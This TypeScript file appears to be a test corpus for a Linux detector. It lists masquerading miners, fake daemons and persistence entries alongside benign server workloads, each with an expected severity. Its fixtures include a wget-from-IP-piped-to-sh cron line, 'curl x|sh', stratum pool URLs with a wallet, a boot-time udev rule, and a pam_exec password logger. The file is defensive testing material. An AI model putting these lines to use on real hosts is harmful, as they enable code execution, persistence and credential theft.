// The corpus: masquerades and honest look-alikes a university server really has, each with the verdict
// a senior responder would sign and why. Sources: Elastic detection-rules (Linux), Sigma Linux
// process_creation, Falco's stable rules, Sandfly's documented checks, the public incident reports named
// in the detection catalogue, and ordinary research-server workloads. The verdict judged is the target
// process's (or, for persistence cases, the entry's). `accepts` lists other verdicts a responder would
// also sign (always on the same side of "high").
import { createHash } from 'node:crypto';
import { chmodSync, chownSync, mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import type { Severity } from '../../src/model';
import type { FakeProc, ProcTree } from '../../src/procfs/fake';
import { base, PACKAGES, TERM, UID } from './host';

export interface CorpusCase {
  name: string;
  kind: 'malicious' | 'benign';
  expect: Severity;
  accepts?: Severity[];
  why: string;
  source: string;
  target: number | { entry: string };
  procs: FakeProc[];
  cpu?: Record<number, number>;
  files?: Record<string, string>;
  procFiles?: Record<string, string>;
  packages?: Record<string, string[]>;
  setup?: (t: ProcTree) => void;
  note?: string;
}

const user = (name: keyof typeof UID, p: Partial<FakeProc> & { pid: number; comm: string }): FakeProc =>
  base({ uid: UID[name], cgroup: `0::/user.slice/user-${UID[name]}.slice/session-3.scope`, ...p });
const detached = (name: keyof typeof UID, p: Partial<FakeProc> & { pid: number; comm: string }): FakeProc =>
  user(name, { ppid: 1, ttyNr: 0, ...p });
const inTerminal = (name: keyof typeof UID, p: Partial<FakeProc> & { pid: number; comm: string }): FakeProc =>
  user(name, { ppid: 502, ttyNr: TERM, ...p });
const service = (unit: string, p: Partial<FakeProc> & { pid: number; comm: string }): FakeProc =>
  base({ cgroup: `0::/system.slice/${unit}`, ...p });

const md5 = (text: string) => createHash('md5').update(text).digest('hex');

/** little-endian hex of an IPv4 address:port, as /proc/net/tcp writes it */
function hexAddr(ip: string, port: number): string {
  const b = ip.split('.').map(Number).reverse().map((x) => x.toString(16).padStart(2, '0').toUpperCase()).join('');
  return `${b}:${port.toString(16).padStart(4, '0').toUpperCase()}`;
}

/** A TCP connection held by `pid` through socket inode `inode`. */
function tcp(pid: number, inode: number, local: [string, number], remote: [string, number], state = '01') {
  return (t: ProcTree) => {
    const line = `   0: ${hexAddr(...local)} ${hexAddr(...remote)} ${state} 00000000:00000000 00:00000000 00000000  1001        0 ${inode} 1 0000000000000000 20 4 30 10 -1\n`;
    t.procFile('net/tcp', '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n' + line);
    t.procFile('net/tcp6', '  sl  local_address                         remote_address                        st\n');
    t.procFile('net/sockstat', 'TCP: inuse 1 orphan 0 tw 0 alloc 1 mem 0\n');
    mkdirSync(join(t.proc, String(pid), 'fd'), { recursive: true });
    symlinkSync(`socket:[${inode}]`, join(t.proc, String(pid), 'fd', '3'));
  };
}

const MALICIOUS: CorpusCase[] = [
  {
    name: 'incident: fake sshd (downloader script run by sh, in a hidden dir)', kind: 'malicious', expect: 'critical',
    why: 'named like the SSH daemon, but the kernel runs /bin/sh on ~/.x/sshd of an ordinary user, adopted by PID 1',
    source: 'the incident; ATT&CK T1036.005; catalogue 1.6', target: 3001,
    procs: [detached('abc', { pid: 3001, comm: 'sshd', cmdline: ['/bin/sh', './sshd'], exe: '/usr/bin/dash', cwd: '/home/abc/.x' })],
  },
  {
    name: 'incident: rcu-sched miner started from ./', kind: 'malicious', expect: 'critical',
    why: 'kernel-thread look-alike with an executable in a hidden home dir and a stratum URL',
    source: 'the incident; Elastic defense_evasion_kthreadd_masquerading; Sigma proc_creation_lnx_crypto_mining', target: 3002,
    procs: [detached('abc', { pid: 3002, comm: 'rcu-sched', threads: 2, cmdline: ['./rcu-sched', '-o', 'stratum+tcp://pool.example:3333'], exe: '/home/abc/.x/rcu-sched', cwd: '/home/abc/.x' })],
    cpu: { 3002: 180 },
  },
  {
    name: 'rcu-sched miner throttled to 5% CPU, argv wiped', kind: 'malicious', expect: 'critical',
    why: 'identity does not depend on load: kernel-thread name, hidden dir, ./ launch, adopted by PID 1',
    source: 'issue 10 item 6; Elastic kthreadd masquerading', target: 3003,
    procs: [detached('abc', { pid: 3003, comm: 'rcu-sched', cmdline: ['./rcu-sched'], exe: '/home/abc/.x/rcu-sched', cwd: '/home/abc/.x' })],
    cpu: { 3003: 5 },
  },
  {
    name: 'exact kworker name, binary under /tmp', kind: 'malicious', expect: 'critical',
    why: 'named exactly like a kernel worker but has an executable in /tmp and a user-space parent',
    source: 'Elastic defense_evasion_kthreadd_masquerading (process.name kworker*, executable present)', target: 3010,
    procs: [base({ pid: 3010, comm: 'kworker/0:2', cmdline: ['[kworker/0:2]'], exe: '/tmp/.k/kw' })],
  },
  {
    name: 'userland kswapd0 (xmrig) in ~/.configrc', kind: 'malicious', expect: 'critical',
    why: 'kswapd0 is a kernel thread; this one is xmrig in a hidden dir of a compromised account',
    source: 'MCSManager/MCSManager#242 (Outlaw-style kit)', target: 3011,
    procs: [detached('abc', { pid: 3011, comm: 'kswapd0', cmdline: ['./kswapd0'], exe: '/home/abc/.configrc/a/kswapd0', cwd: '/home/abc/.configrc/a' })],
    cpu: { 3011: 190 },
  },
  {
    name: 'aptitude in the X11 look-alike /tmp/.X25-unix', kind: 'malicious', expect: 'critical',
    why: 'programs never live in X11 socket dirs, and this one is a look-alike name in /tmp',
    source: 'MCSManager/MCSManager#242; Sigma lnx_auditd_hidden_binary_execution', target: 3012,
    procs: [detached('abc', { pid: 3012, comm: 'aptitude', cmdline: ['/tmp/.X25-unix/.rsync/c/aptitude'], exe: '/tmp/.X25-unix/.rsync/c/aptitude', cwd: '/tmp/.X25-unix/.rsync/c' })],
  },
  {
    name: 'crond that is a copy of /bin/sh in /tmp', kind: 'malicious', expect: 'critical',
    why: 'daemon name, executable in /tmp',
    source: 'atomic-red-team T1036.003 #2; Sigma lnx_auditd_masquerading_crond', target: 3013,
    procs: [base({ pid: 3013, comm: 'crond', cmdline: ['/tmp/crond'], exe: '/tmp/crond', cwd: '/tmp' })],
  },
  {
    name: 'fileless payload from memfd', kind: 'malicious', expect: 'high', accepts: ['critical'],
    why: 'runs from an anonymous memory file that never existed on disk',
    source: 'Falco "Fileless execution via memfd_create" (stable)', target: 3014,
    procs: [base({ pid: 3014, comm: '3', ppid: 3015, cmdline: ['[kthread]'], exe: '/memfd: (deleted)' }), base({ pid: 3015, comm: 'bash', cmdline: ['bash'], exe: '/usr/bin/bash' })],
  },
  {
    name: 'memfd merely named runc_cloned, not under a runtime', kind: 'malicious', expect: 'critical', accepts: ['high'],
    why: 'the runc exemption must verify the runtime, not trust a memfd name the program chose',
    source: 'issue 10 item 5; Falco known_memfd_execution_processes', target: 3016,
    procs: [detached('abc', { pid: 3016, comm: 'runc', cmdline: ['runc', 'init'], exe: '/memfd:runc_cloned:/proc/self/exe (deleted)', cwd: '/home/abc' })],
  },
  {
    name: 'self-deleted binary from /tmp', kind: 'malicious', expect: 'critical',
    why: 'deleted its own executable after start, from a world-writable directory',
    source: 'Elastic defense_evasion_execution_followed_by_self_deletion; osquery#31', target: 3017,
    procs: [detached('abc', { pid: 3017, comm: 'update', cmdline: ['/tmp/update'], exe: '/tmp/update (deleted)', cwd: '/tmp' })],
  },
  {
    name: 'kdevtmpfsi (Kinsing) as www-data', kind: 'malicious', expect: 'critical',
    why: 'known Kinsing miner name, in /tmp, run by the web server account',
    source: 'cloudpanel-io/cloudpanel-ce#35; roundcube/roundcubemail-docker#215', target: 3018,
    procs: [base({ pid: 3018, comm: 'kdevtmpfsi', uid: UID.www, cmdline: ['/tmp/kdevtmpfsi'], exe: '/tmp/kdevtmpfsi', cwd: '/tmp', cgroup: '0::/system.slice/php8.2-fpm.service' })],
    cpu: { 3018: 195 },
  },
  {
    name: 'xmrig-notls under /var/tmp', kind: 'malicious', expect: 'critical',
    why: 'a known miner build, from a world-writable dir',
    source: 'xmrig/xmrig#1130', target: 3019,
    procs: [detached('bob', { pid: 3019, comm: 'xmrig-notls', cmdline: ['/var/tmp/xmrig-notls'], exe: '/var/tmp/xmrig-notls', cwd: '/var/tmp' })],
  },
  {
    name: 'miner renamed "unicorn" with a stratum URL', kind: 'malicious', expect: 'critical',
    why: 'stratum pool URL on the command line',
    source: 'jacobaraujo7/remote_pi#79; Falco "Detect crypto miners using the Stratum protocol"', target: 3020,
    procs: [detached('abc', { pid: 3020, comm: 'unicorn', cmdline: ['unicorn', '-o', 'stratum+ssl://xmr.pool.example:443', '-u', '4Abc'], exe: '/home/abc/app/unicorn', cwd: '/home/abc/app' })],
  },
  {
    name: 'base64-encoded stratum URL', kind: 'malicious', expect: 'critical',
    why: 'the pool URL is only hidden by base64',
    source: 'Sigma proc_creation_lnx_crypto_mining (base64 variants)', target: 3021,
    procs: [detached('abc', { pid: 3021, comm: 'svc', cmdline: ['svc', '--cfg', Buffer.from('stratum+tcp://p.example:3333').toString('base64')], exe: '/home/abc/svc', cwd: '/home/abc' })],
  },
  {
    name: 'XMRig options only, innocuous name, in the home', kind: 'malicious', expect: 'critical', accepts: ['high'],
    why: 'three options only XMRig has',
    source: 'xmrig usage.h; Sigma proc_creation_lnx_crypto_mining', target: 3022,
    procs: [detached('abc', { pid: 3022, comm: 'app', cmdline: ['./app', '--donate-level=1', '--cpu-max-threads-hint=50', '-a', 'rx/0'], exe: '/home/abc/app', cwd: '/home/abc' })],
  },
  {
    name: 'LD_PRELOAD of a library in /dev/shm (process hider)', kind: 'malicious', expect: 'high', accepts: ['critical'],
    why: 'a preloaded library in shared memory is how libprocesshider-style rootkits hide processes',
    source: 'gianlucaborello/libprocesshider; Elastic defense_evasion_unusual_preload_env_vars', target: 3023,
    procs: [service('nginx.service', { pid: 3023, comm: 'nginx', cmdline: ['nginx: master process /usr/sbin/nginx'], exe: '/usr/sbin/nginx', environ: ['LD_PRELOAD=/dev/shm/.libc.so'] })],
  },
  {
    name: 'bind mount over /proc/N showing a kernel thread', kind: 'malicious', expect: 'critical',
    why: 'a mount over /proc/N disguises the real process',
    source: 'atomic-red-team T1036.004 #4; Sandfly 4.3.0', target: 3024,
    procs: [detached('abc', { pid: 3024, comm: 'kworker/1:0', statPid: 16, cmdline: [], exe: null })],
    procFiles: { 'self/mountinfo': '40 22 0:21 /16 /proc/3024 rw - proc proc rw\n' },
  },
  {
    name: 'mount over /proc/N whose stat is unreadable', kind: 'malicious', expect: 'critical',
    why: 'something covers /proc/N entirely; the finding must still name N',
    source: 'issue 10 item 5; atomic-red-team T1036.004 #4', target: 3025,
    procs: [],
    procFiles: { 'self/mountinfo': '41 22 0:45 / /proc/3025 rw - tmpfs tmpfs rw\n' },
  },
  {
    name: 'shell whose parent is kthreadd', kind: 'malicious', expect: 'high', accepts: ['critical'],
    why: 'kthreadd only parents kernel threads and kernel helpers',
    source: 'Elastic execution_unusual_kthreadd_execution', target: 3026,
    procs: [base({ pid: 3026, comm: 'sh', ppid: 2, cmdline: ['sh', '-c', 'curl x|sh'], exe: '/usr/bin/dash' })],
  },
  {
    name: 'executable that is a PID file in /run', kind: 'malicious', expect: 'critical', accepts: ['high'],
    why: 'BPFDoor runs from /var/run/*.pid: no program ever lives in a pid file',
    source: 'Elastic execution_process_started_from_process_id_file', target: 3027,
    procs: [base({ pid: 3027, comm: 'hald-addon-volu', cmdline: ['/usr/libexec/postfix/master'], exe: '/run/haldrund.pid' })],
  },
  {
    name: 'www-data runs an ELF from an upload directory', kind: 'malicious', expect: 'critical', accepts: ['high'],
    why: 'a web service runs what the web uploaded',
    source: 'issue 10 item 4; Elastic execution_suspicious_executable_file_creation (web server child)', target: 3028,
    procs: [service('php8.2-fpm.service', { pid: 3028, comm: 'php', uid: UID.www, ppid: 1, cmdline: ['./php'], exe: '/var/www/html/uploads/php', cwd: '/var/www/html/uploads' })],
  },
  {
    name: 'nobody runs /tmp/x', kind: 'malicious', expect: 'critical',
    why: 'service account, program in /tmp',
    source: 'issue 10 item 4; Sigma proc_creation_lnx_susp_execution_tmp_folder', target: 3029,
    procs: [base({ pid: 3029, comm: 'x', uid: UID.nobody, cmdline: ['/tmp/x'], exe: '/tmp/x' })],
  },
  {
    name: 'postgres runs a dropped binary from its home', kind: 'malicious', expect: 'critical', accepts: ['high'],
    why: 'a database account runs a program it downloaded into its own home (COPY ... FROM PROGRAM abuse)',
    source: 'issue 10 item 4; PostgreSQL cryptojacking reports (kdevtmpfsi under postgres)', target: 3030,
    procs: [service('postgresql@15-main.service', { pid: 3030, comm: 'kthreadd', uid: UID.postgres, cmdline: ['kthreadd'], exe: '/var/lib/postgresql/15/main/kthreadd', cwd: '/var/lib/postgresql/15/main' })],
  },
  {
    name: 'redis runs a hidden payload from /tmp', kind: 'malicious', expect: 'critical',
    why: 'service account, hidden dir in /tmp',
    source: 'Elastic persistence_potential_redis_config_set_cron_persistence (follow-up payload)', target: 3031,
    procs: [service('redis-server.service', { pid: 3031, comm: 'sysupdate', uid: UID.redis, cmdline: ['/tmp/.x/sysupdate'], exe: '/tmp/.x/sysupdate' })],
  },
  {
    name: 'sshd planted at /usr/local/sbin', kind: 'malicious', expect: 'high', accepts: ['critical'],
    why: 'where an sshd could live, but no package installed it; the real one is /usr/sbin/sshd',
    source: 'issue 10 item 1; Sandfly 1.6.0 (copy of sshd under a new name/port)', target: 3032,
    procs: [service('ssh2.service', { pid: 3032, comm: 'sshd', cmdline: ['/usr/local/sbin/sshd', '-p', '2222'], exe: '/usr/local/sbin/sshd' })],
  },
  {
    name: 'kswapd0 as an unpackaged file in /usr/bin', kind: 'malicious', expect: 'high', accepts: ['critical'],
    why: 'kernel-thread name, executable in a system dir that no package installed',
    source: 'issue 10 item 1', target: 3033,
    procs: [service('kswapd.service', { pid: 3033, comm: 'kswapd0', cmdline: ['/usr/bin/kswapd0'], exe: '/usr/bin/kswapd0' })],
  },
  {
    name: 'process hiding behind a file put back in /usr/bin', kind: 'malicious', expect: 'high', accepts: ['critical'],
    why: 'its image was deleted and an unpackaged file now stands at the path',
    source: 'issue 10 item 1 (H20)', target: 3034,
    procs: [service('updater.service', { pid: 3034, comm: 'updater', cmdline: ['/usr/bin/updater'], exe: '/usr/bin/updater (deleted)' })],
    files: { 'usr/bin/updater': '#!/bin/sh\nexit 0\n' },
  },
  {
    name: 'systemd-journald impostor in /var/tmp', kind: 'malicious', expect: 'critical',
    why: 'daemon name, executable in a world-writable dir',
    source: 'ATT&CK T1036.004; Elastic defense_evasion_masquerading_*', target: 3035,
    procs: [base({ pid: 3035, comm: 'systemd-journal', cmdline: ['systemd-journald'], exe: '/var/tmp/systemd-journald' })],
  },
  {
    name: 'perl bot renamed crond', kind: 'malicious', expect: 'critical', accepts: ['high'],
    why: 'named like the cron daemon, but the kernel says it is perl',
    source: 'Outlaw/Shellbot perl IRC bots (securityintelligence summary); catalogue H02', target: 3036,
    procs: [detached('abc', { pid: 3036, comm: 'crond', cmdline: ['/usr/sbin/crond'], exe: '/usr/bin/perl', cwd: '/home/abc' })],
  },
  {
    name: 'bash script hiding as [kworker/1:1] via exec -a', kind: 'malicious', expect: 'critical',
    why: 'bracketed kernel-thread argv, a ./ script, detached',
    source: 'Elastic defense_evasion_prctl_process_name_tampering; ART T1036.004 #3', target: 3037,
    procs: [detached('abc', { pid: 3037, comm: 'bash', cmdline: ['[kworker/1:1]', './x.sh'], exe: '/usr/bin/bash', cwd: '/home/abc' })],
  },
  {
    name: 'python miner script in /tmp/.x with -W ignore', kind: 'malicious', expect: 'critical',
    why: 'the script (not "ignore") lives in a hidden dir under /tmp',
    source: 'issue 12 (python3 -W ignore /tmp/.x/miner.py)', target: 3038,
    procs: [detached('abc', { pid: 3038, comm: 'python3', cmdline: ['python3', '-W', 'ignore', '/tmp/.x/miner.py'], exe: '/usr/bin/python3.11', cwd: '/home/abc' })],
  },
  {
    name: 'miner connected to a pool on a public address', kind: 'malicious', expect: 'critical', accepts: ['high'],
    why: 'innocuous name, ./ launch, detached, and an open connection to a miner-only pool port',
    source: 'Falco miner_ports; Sigma net_connection_lnx_crypto_mining_indicators', target: 3039,
    procs: [detached('abc', { pid: 3039, comm: 'worker', cmdline: ['./worker'], exe: '/home/abc/worker', cwd: '/home/abc' })],
    setup: tcp(3039, 90001, ['10.0.0.5', 40000], ['198.51.100.7', 14444]),
  },
  {
    name: 'miner connected to a local stratum proxy on loopback', kind: 'malicious', expect: 'critical', accepts: ['high'],
    why: 'a connection to a strong pool port on 127.0.0.1 is a local stratum proxy: as telling as a public pool',
    source: 'issue 10 item 3; xmrig-proxy documentation', target: 3040,
    procs: [detached('abc', { pid: 3040, comm: 'worker', cmdline: ['./worker'], exe: '/home/abc/worker', cwd: '/home/abc' })],
    setup: tcp(3040, 90002, ['127.0.0.1', 40001], ['127.0.0.1', 3333]),
  },
  {
    name: 'miner that keeps its pool in config.json next to it', kind: 'malicious', expect: 'critical', accepts: ['high'],
    why: 'nothing on the command line, but its working directory holds an XMRig configuration with a pool and a wallet',
    source: 'issue 10 item 2; catalogue H31 (-c config.json), xmrig config.json format', target: 3041,
    procs: [detached('abc', { pid: 3041, comm: 'perfd', cmdline: ['./perfd'], exe: '/home/abc/perf/perfd', cwd: '/home/abc/perf' })],
    files: {
      'home/abc/perf/perfd': '\x7fELF',
      'home/abc/perf/config.json': JSON.stringify({ autosave: true, 'donate-level': 0, cpu: { enabled: true }, pools: [{ url: 'pool.supportxmr.com:443', user: '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A', tls: true }] }),
    },
  },
  {
    name: 'renamed xmrig found by the strings in its executable', kind: 'malicious', expect: 'critical', accepts: ['high'],
    why: 'it calls itself bioinfo-align, but its executable carries stratum URLs and XMRig strings',
    source: 'issue 10 item 2; jacobaraujo7/remote_pi#79 (renamed xmrig)', target: 3042,
    procs: [inTerminal('bob', { pid: 3042, comm: 'bioinfo-align', threads: 2, cmdline: ['bioinfo-align', '--in', 'reads.fq'], exe: '/home/bob/tools/bioinfo-align', cwd: '/home/bob/data' })],
    cpu: { 3042: 190 },
    files: { 'home/bob/tools/bioinfo-align': '\x7fELF\0\0' + '\0'.repeat(4000) + 'XMRig 6.21.0\0stratum+tcp://pool.minexmr.com:4444\0randomx\0--donate-level\0' + '\0'.repeat(4000) },
  },
  {
    name: 'busy python process running code mapped from /dev/shm', kind: 'malicious', expect: 'high', accepts: ['critical'],
    why: 'executable code mapped from shared memory: injected or preloaded from where no package installs',
    source: 'issue 10 item 1 (executable mappings); Elastic defense_evasion_unusual_preload_env_vars', target: 3043,
    procs: [inTerminal('bob', { pid: 3043, comm: 'python3', cmdline: ['python3', 'serve.py'], exe: '/usr/bin/python3.11', cwd: '/home/bob/web' })],
    cpu: { 3043: 80 },
    procFiles: { '3043/maps': '55d0c0000000-55d0c0200000 r-xp 00000000 08:01 1234 /usr/bin/python3.11\n7f0000000000-7f0000021000 r-xp 00000000 00:1a 99 /dev/shm/.x/libsneak.so\n' },
  },
  {
    name: 'user unit running a hidden miner', kind: 'malicious', expect: 'high', accepts: ['critical'],
    why: 'a per-user unit named like D-Bus running a program from a hidden dir',
    source: 'Elastic persistence_systemd_service_creation (user units); catalogue 2', target: { entry: '/home/abc/.config/systemd/user/dbus-session.service:6' },
    procs: [],
    files: { 'home/abc/.config/systemd/user/dbus-session.service': '[Unit]\nDescription=D-Bus session\n\n[Service]\nType=simple\nExecStart=/home/abc/.cache/.dbus/dbus-session --quiet\nRestart=always\n\n[Install]\nWantedBy=default.target\n' },
  },
  {
    name: 'kinsing cron line: wget from a raw IP piped into sh', kind: 'malicious', expect: 'critical',
    why: 'downloads code from a bare IP and runs it every minute',
    source: 'ccri/cloud-local#73; Elastic execution_payload_downloaded_by_curl_wget_and_piped_to_interpreter', target: { entry: '/var/spool/cron/crontabs/abc:1' },
    procs: [],
    files: { 'var/spool/cron/crontabs/abc': '* * * * * wget -q -O - http://195.3.146.118/spr.sh | sh > /dev/null 2>&1\n' },
  },
  {
    name: '.bashrc restarting a miner in the background', kind: 'malicious', expect: 'critical', accepts: ['high'],
    why: 'every shell restarts a program from a hidden dir with nohup ... &',
    source: 'issue 10 item 7; Elastic persistence_via_shell_modification_persistence; ART T1546.004', target: { entry: '/home/abc/.bashrc:1' },
    procs: [],
    files: { 'home/abc/.bashrc': 'pgrep -x rcu-sched >/dev/null || (cd ~/.x && nohup ./rcu-sched >/dev/null 2>&1 &)\n' },
  },
  {
    name: 'udev rule starting a miner at every boot (the sedexp pattern: /dev/random\'s device event)', kind: 'malicious', expect: 'high', accepts: ['critical'],
    why: 'udev runs it as root whenever /dev/random (major 1, minor 8) appears, that is at every boot, from a hidden directory',
    source: 'Stroz Friedberg / AON "sedexp" (2024); ATT&CK T1546.017', target: { entry: '/etc/udev/rules.d/99-sys.rules:1' },
    procs: [],
    files: { 'etc/udev/rules.d/99-sys.rules': 'ACTION=="add", ENV{MAJOR}=="1", ENV{MINOR}=="8", RUN+="/bin/sh -c \'/var/tmp/.x/kswapd0 &\'"\n' },
  },
  {
    name: 'pam_exec handed every sshd password (a credential logger)', kind: 'malicious', expect: 'high', accepts: ['critical'],
    why: 'expose_authtok gives the script the password of every SSH login',
    source: 'ATT&CK T1556.003; public pam_exec password-logging write-ups', target: { entry: '/etc/pam.d/sshd:1' },
    procs: [],
    files: { 'etc/pam.d/sshd': 'auth optional pam_exec.so quiet expose_authtok /usr/local/bin/.sync\n@include common-auth\n' },
  },
  {
    name: 'a miner written over the packaged sshd, burning CPU as the SSH service', kind: 'malicious', expect: 'critical', accepts: ['high'],
    why: '/usr/sbin/sshd is where sshd lives and openssh-server owns the path, but the file is not the one the package installed',
    source: 'debsums / rpm -V; ESET "The Dark Side of the ForSSHe" (trojaned OpenSSH, 2018)', target: 3044,
    procs: [service('ssh.service', { pid: 3044, comm: 'sshd', threads: 4, cmdline: ['sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups'], exe: '/usr/sbin/sshd' })],
    cpu: { 3044: 190 },
    files: { 'usr/sbin/sshd': '\x7fELF\0not the sshd openssh-server shipped' },
    setup: (t) => t.dpkg('openssh-server', PACKAGES['openssh-server'], { '/usr/sbin/sshd': md5('\x7fELF\0the sshd openssh-server shipped') }),
  },
];

const BENIGN: CorpusCase[] = [
  {
    name: 'the real sshd listener', kind: 'benign', expect: 'none', why: 'packaged sshd in its own service',
    source: 'systemd user@.service(5); catalogue H02', target: 400, procs: [],
  },
  {
    name: "a user's sshd session process", kind: 'benign', expect: 'none', why: '"sshd: abc@pts/0" is how the real per-session sshd names itself',
    source: 'catalogue H02', target: 501, procs: [],
  },
  {
    name: 'kswapd0 kernel thread spinning under memory pressure', kind: 'benign', expect: 'none', why: 'a real kernel thread: PF_KTHREAD, parent kthreadd',
    source: 'OpenELEC/OpenELEC.tv#3703', target: 40, procs: [], cpu: {},
  },
  {
    name: "developer's ./a.out in a terminal", kind: 'benign', expect: 'none', why: 'relative launch on a terminal is normal work',
    source: 'catalogue H12', target: 4001, procs: [inTerminal('abc', { pid: 4001, comm: 'a.out', cmdline: ['./a.out'], exe: '/home/abc/src/a.out', cwd: '/home/abc/src' })],
    cpu: { 4001: 95 }, accepts: ['low'],
  },
  {
    name: 'detached ./sim of an ordinary user on two cores', kind: 'benign', expect: 'medium',
    why: "the incident's shape minus the lie: worth a look, never high",
    source: 'issue 10 item 6', target: 4002,
    procs: [detached('bob', { pid: 4002, comm: 'sim', threads: 2, cmdline: ['./sim', '--steps', '1000000'], exe: '/home/bob/runs/sim', cwd: '/home/bob/runs', startTicks: 100 })],
    cpu: { 4002: 199 },
  },
  {
    name: 'PyTorch trainer under nohup, -W ignore', kind: 'benign', expect: 'medium', accepts: ['low'],
    why: 'a detached busy job from the home: nothing lies about what it is',
    source: 'university GPU/CPU servers', target: 4003,
    procs: [detached('alice', { pid: 4003, comm: 'python3', threads: 8, cmdline: ['python3', '-W', 'ignore', 'train.py', '--epochs', '90'], exe: '/usr/bin/python3.11', cwd: '/home/alice/proj', startTicks: 100 })],
    cpu: { 4003: 199 },
  },
  {
    name: 'jupyter lab from a project virtualenv, in a user unit', kind: 'benign', expect: 'none', accepts: ['low'],
    why: '.venv is a toolchain dir',
    source: 'university notebooks', target: 4004,
    procs: [user('alice', { pid: 4004, ppid: 600, comm: 'jupyter-lab', cmdline: ['/home/alice/proj/.venv/bin/python', '/home/alice/proj/.venv/bin/jupyter-lab', '--no-browser'], exe: '/home/alice/proj/.venv/bin/python3.11', cwd: '/home/alice/proj', cgroup: '0::/user.slice/user-1002.slice/user@1002.service/app.slice/jupyter.service' })],
  },
  {
    name: 'user unit running a tool from the user\'s own virtualenv', kind: 'benign', expect: 'low', accepts: ['none', 'medium'],
    why: 'a per-user unit is worth listing, but a venv tool is not a hidden dir',
    source: 'issue 10 item 6', target: { entry: '/home/alice/.config/systemd/user/jupyter.service:5' },
    procs: [],
    files: { 'home/alice/.config/systemd/user/jupyter.service': '[Unit]\nDescription=Jupyter\n[Service]\nWorkingDirectory=/home/alice/proj\nExecStart=/home/alice/proj/.venv/bin/jupyter-lab --no-browser\n[Install]\nWantedBy=default.target\n' },
  },
  {
    name: 'Poetry virtualenv app (~/.cache/pypoetry)', kind: 'benign', expect: 'none', accepts: ['low', 'medium'],
    why: "Poetry keeps virtualenvs under ~/.cache/pypoetry: a toolchain dir, not a hiding place",
    source: 'issue 10 item 6', target: 4005,
    procs: [detached('bob', { pid: 4005, comm: 'python', cmdline: ['/home/bob/.cache/pypoetry/virtualenvs/api-x1/bin/python', 'app.py'], exe: '/home/bob/.cache/pypoetry/virtualenvs/api-x1/bin/python3.11', cwd: '/home/bob/api', cgroup: '0::/user.slice/user-1003.slice/user@1003.service/app.slice/api.service', ppid: 600 })],
  },
  {
    name: 'conda environment trainer', kind: 'benign', expect: 'none', accepts: ['low', 'medium'],
    why: 'miniconda envs are toolchain dirs', source: 'university servers', target: 4006,
    procs: [inTerminal('alice', { pid: 4006, comm: 'python', cmdline: ['python', 'fit.py'], exe: '/home/alice/miniconda3/envs/ml/bin/python3.10', cwd: '/home/alice/ml' })],
    cpu: { 4006: 150 },
  },
  {
    name: 'VS Code remote server', kind: 'benign', expect: 'none', accepts: ['low'], why: '~/.vscode-server is where VS Code installs its server',
    source: 'issue 10 item 6', target: 4007,
    procs: [detached('bob', { pid: 4007, comm: 'node', cmdline: ['/home/bob/.vscode-server/bin/abc123/node', '/home/bob/.vscode-server/bin/abc123/out/server-main.js', '--start-server'], exe: '/home/bob/.vscode-server/bin/abc123/node', cwd: '/home/bob' })],
  },
  {
    name: 'Cursor remote server', kind: 'benign', expect: 'none', accepts: ['low'], why: '~/.cursor-server is an editor server dir',
    source: 'issue 10 item 6', target: 4008,
    procs: [detached('bob', { pid: 4008, comm: 'node', cmdline: ['/home/bob/.cursor-server/bin/x/node', '/home/bob/.cursor-server/bin/x/out/server-main.js'], exe: '/home/bob/.cursor-server/bin/x/node', cwd: '/home/bob' })],
  },
  {
    name: 'tmux server', kind: 'benign', expect: 'none', accepts: ['low'], why: '"tmux: server" is not a rename',
    source: 'issue 10 item 6', target: 4009,
    procs: [detached('abc', { pid: 4009, comm: 'tmux: server', cmdline: ['tmux'], exe: '/usr/bin/tmux', cwd: '/home/abc' })],
  },
  {
    name: 'GNU screen session', kind: 'benign', expect: 'none', accepts: ['low'], why: 'SCREEN is screen',
    source: 'university servers', target: 4010,
    procs: [detached('abc', { pid: 4010, comm: 'screen', cmdline: ['SCREEN', '-dmS', 'job'], exe: '/usr/bin/screen', cwd: '/home/abc' })],
  },
  {
    name: 'postgres checkpointer', kind: 'benign', expect: 'none', why: '"postgres: checkpointer" is how PostgreSQL names its processes',
    source: 'issue 10 item 6', target: 4011,
    procs: [service('postgresql@15-main.service', { pid: 4011, comm: 'postgres', uid: UID.postgres, cmdline: ['postgres: 15/main: checkpointer'], exe: '/usr/lib/postgresql/15/bin/postgres', cwd: '/var/lib/postgresql/15/main' })],
  },
  {
    name: 'nginx worker as www-data', kind: 'benign', expect: 'none', why: 'packaged nginx',
    source: 'web servers', target: 4012,
    procs: [service('nginx.service', { pid: 4012, comm: 'nginx', uid: UID.www, cmdline: ['nginx: worker process'], exe: '/usr/sbin/nginx' })],
  },
  {
    name: 'apache2 worker as www-data', kind: 'benign', expect: 'none', why: 'packaged apache2',
    source: 'web servers', target: 4013,
    procs: [service('apache2.service', { pid: 4013, comm: 'apache2', uid: UID.www, cmdline: ['/usr/sbin/apache2', '-k', 'start'], exe: '/usr/sbin/apache2' })],
  },
  {
    name: 'MariaDB server', kind: 'benign', expect: 'none', why: 'packaged database', source: 'databases', target: 4014,
    procs: [service('mariadb.service', { pid: 4014, comm: 'mariadbd', uid: UID.mysql, cmdline: ['/usr/sbin/mariadbd'], exe: '/usr/sbin/mariadbd' })],
  },
  {
    name: 'redis with jemalloc preloaded', kind: 'benign', expect: 'low', accepts: ['none'], why: 'a packaged allocator in LD_PRELOAD is at most low',
    source: 'issue 10 item 1', target: 4015,
    procs: [service('redis-server.service', { pid: 4015, comm: 'redis-server', uid: UID.redis, cmdline: ['/usr/bin/redis-server 127.0.0.1:6379'], exe: '/usr/bin/redis-server', environ: ['LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'] })],
  },
  {
    name: 'php-fpm pool', kind: 'benign', expect: 'none', why: '"php-fpm: pool www" is a role name', source: 'web servers', target: 4016,
    procs: [service('php8.2-fpm.service', { pid: 4016, comm: 'php-fpm8.2', uid: UID.www, cmdline: ['php-fpm: pool www'], exe: '/usr/sbin/php-fpm8.2' })],
  },
  {
    name: 'gcc cc1 during a build in a terminal', kind: 'benign', expect: 'none', accepts: ['low'], why: 'compilers burn CPU',
    source: 'catalogue H34', target: 4017,
